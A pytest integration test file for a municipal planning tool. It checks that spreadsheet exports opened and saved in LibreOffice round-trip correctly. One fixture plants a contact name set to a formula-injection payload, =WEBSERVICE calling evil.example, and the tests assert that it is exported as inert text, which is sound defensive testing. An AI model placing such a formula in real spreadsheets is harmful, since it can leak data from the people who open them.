"""A spreadsheet program opens what is exported, and what it saves is imported."""

from __future__ import annotations

from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest

from etappe.adapters.workbook.reading import read_sheets
from etappe.adapters.workbook.writing import write_tables
from etappe.model.cells import Table
from etappe.model.kommune import DayKind, NamedDay
from etappe.model.sheets import read_entries, titles_read
from etappe.service.office import Office
from etappe.service.people import set_contact
from etappe.service.sheets.exporting import plan_tables, portfolio_tables
from etappe.service.sheets.importing import import_sheets
from etappe.service.sheets.run import SheetReport
from tests.integration import libreoffice
from tests.integration.libreoffice import LibreOffice, libreoffice_in
from tests.integration.worlds import AACHEN, World, found

EVIL = '=WEBSERVICE("http://evil.example")'
LATER = date(2026, 4, 22)


@pytest.fixture
def database_url(sqlite_url: str) -> str:
    """One database: the program does not care."""
    return sqlite_url


@pytest.fixture
def calc(tmp_path: Path) -> LibreOffice:
    """LibreOffice."""
    return libreoffice_in(tmp_path)


@pytest.fixture
def world(office: Office) -> World:
    """Aachen with a project, a person who calls herself a formula, and a closing day."""
    world = found(office, kommune=replace(AACHEN, ags="05334002"))
    world.start()
    set_contact(office, "aachen", "VS", EVIL, "vs@aachen.example", None, "pm", world.clock.now())
    with office.store.begin() as tx:
        tx.kommunen.add_day("aachen", NamedDay(DayKind.CLOSED, date(2026, 12, 28), "-1+1"))
    return world


def exported(world: World, folder: Path) -> Path:
    """The workbook of all projects."""
    return written(portfolio_tables(world.office, world.clock.now()), folder)


def written(tables: tuple[Table, ...], folder: Path) -> Path:
    """A workbook with some tables."""
    write_tables(tables, folder / "book.xlsx", "dd.mm.yyyy")
    return folder / "book.xlsx"


def brought(world: World, file: Path) -> SheetReport:
    """What came of importing a workbook."""
    captions = world.office.speech.captions
    entries = read_entries(read_sheets(file, titles_read(captions)), captions)
    return import_sheets(world.office, entries, "pm", world.clock.now())


def test_all_projects_look_right(world: World, calc: LibreOffice, tmp_path: Path) -> None:
    sheets = calc.shown(exported(world, tmp_path))

    assert list(sheets["Projekte"][1][:4]) == ["Aachen", "aachen", "NW", "05334002"]
    assert ["Aachen", "aachen", "workshop", "Selbstcheck-Workshop", "15.04.2026", "15.04.2026", "nein"] in (
        sheets["Termine"]
    )
    assert ["aachen", "VS", f"'{EVIL}", "vs@aachen.example", "", ""] in sheets["Kontakte"]
    assert sheets["Freie Tage"][1:] == [["aachen", "geschlossen", "28.12.2026", "'-1+1"]]


def test_a_plan_looks_right(world: World, calc: LibreOffice, tmp_path: Path) -> None:
    sheets = calc.shown(written(plan_tables(world.office, "aachen", world.clock.now()), tmp_path))

    assert set(sheets) == {"Anker", "Aufgaben", "Phasen"}
    assert ["workshop", "Selbstcheck-Workshop", "15.04.2026", "nein"] in [row[:4] for row in sheets["Anker"]]
    due = next(row for row in sheets["Aufgaben"] if row[0] == "selbstcheck.abgabe")
    assert due[3:6] == ["AP", "09.03.2026", "offen"]


def test_days_are_dates_and_no_text_is_a_formula(world: World, calc: LibreOffice, tmp_path: Path) -> None:
    xml = calc.flat(exported(world, tmp_path))

    assert 'office:value-type="date" office:date-value="2026-04-15"' in xml
    assert "WEBSERVICE" in xml
    assert "table:formula=" not in xml
    assert "table:content-validation " in xml


def test_what_it_saves_unchanged_changes_nothing(world: World, calc: LibreOffice, tmp_path: Path) -> None:
    report = brought(world, calc.saved(exported(world, tmp_path)))

    assert (report.problems, report.left) == ((), ())
    assert (report.anchors, report.contacts, dict(report.days)) == ((), (), {})


def test_what_was_changed_in_it_is_imported(world: World, calc: LibreOffice, tmp_path: Path) -> None:
    projects, dates, contacts, days = portfolio_tables(world.office, world.clock.now())
    moved = tuple((*r[:4], LATER if r[2] == "workshop" else r[4], *r[5:]) for r in dates.rows)
    new = ("aachen", "geschlossen", date(2026, 2, 16), "Rosenmontag")
    tables = (projects, replace(dates, rows=moved), contacts, replace(days, rows=(*days.rows, new)))

    report = brought(world, calc.saved(written(tables, tmp_path)))

    assert [(a.anchor, a.after) for a in report.anchors] == [("workshop", LATER)]
    assert report.days["aachen"] == (NamedDay(DayKind.CLOSED, date(2026, 2, 16), "Rosenmontag"),)


def test_where_it_is_required_its_absence_is_a_failure(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(libreoffice, "REQUIRED", frozenset({"libreoffice"}))
    monkeypatch.setenv("PATH", str(tmp_path))

    with pytest.raises(pytest.fail.Exception, match="install libreoffice-calc"):
        libreoffice_in(tmp_path)
